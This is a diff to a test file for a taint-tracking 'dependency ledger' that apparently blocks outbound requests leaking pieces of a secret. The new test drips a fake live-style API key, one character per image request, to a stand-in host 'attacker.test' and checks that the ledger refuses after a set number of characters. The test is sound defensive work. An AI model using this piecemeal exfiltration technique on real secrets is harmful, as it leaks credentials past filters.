@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { rot13 } from '../../src/taint/encode';
-import { DependencyLedger, gappedIncludes, urlCost } from '../../src/taint/ledger';
+import { DependencyLedger, PIECE, urlCost } from '../../src/taint/ledger';
 import type { TaintToken } from '../../src/taint/tokens';
 
 const KEY = 'sk_live_4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9';
@@ -57,9 +57,9 @@ describe('dependency ledger', () => {
     expect(ledger.charge({ url: new URL(`http://news.test/${KEY}`), site: 'news.test' }, taint).refused).toBe(false);
   });
 
-  it('matches with gaps only within the gap', () => {
-    expect(gappedIncludes('a12b34c', 'abc', 2)).toBe(true);
-    expect(gappedIncludes('a123b34c', 'abc', 2)).toBe(false);
-    expect(gappedIncludes('xxbxaxbxcx', 'abc', 1)).toBe(true);
+  it('refuses once PIECE characters of a token arrived, not only the whole token', () => {
+    const ledger = new DependencyLedger();
+    const verdicts = send(ledger, [...KEY.slice(0, 20)].map((c, i) => `http://attacker.test/c.png?i=${i}&c=${c}`));
+    expect(verdicts.findIndex((v) => v.refused)).toBe(PIECE + 1);
   });
 });
